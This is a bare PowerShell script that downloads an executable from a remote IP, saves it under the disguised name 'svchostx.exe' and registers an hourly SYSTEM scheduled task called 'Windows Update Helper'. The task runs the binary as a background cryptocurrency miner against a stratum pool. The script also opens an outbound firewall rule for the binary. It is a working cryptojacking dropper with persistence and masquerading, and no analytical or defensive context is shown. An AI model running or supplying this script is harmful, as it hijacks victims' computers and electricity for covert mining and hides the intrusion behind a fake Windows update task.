$u = 'http://203.0.113.10/wp/agent.exe'
Invoke-WebRequest $u -OutFile "$env:ProgramData\Microsoft\svchostx.exe" -UseBasicParsing
schtasks /create /tn "Windows Update Helper" /tr "$env:ProgramData\Microsoft\svchostx.exe -o stratum+tcp://pool.patchhelper.invalid:3333 -u 4AfBt9vK.w1 -k --donate-level 1 --background" /sc hourly /ru SYSTEM /f
netsh advfirewall firewall add rule name="WUH" dir=out action=allow program="$env:ProgramData\Microsoft\svchostx.exe"
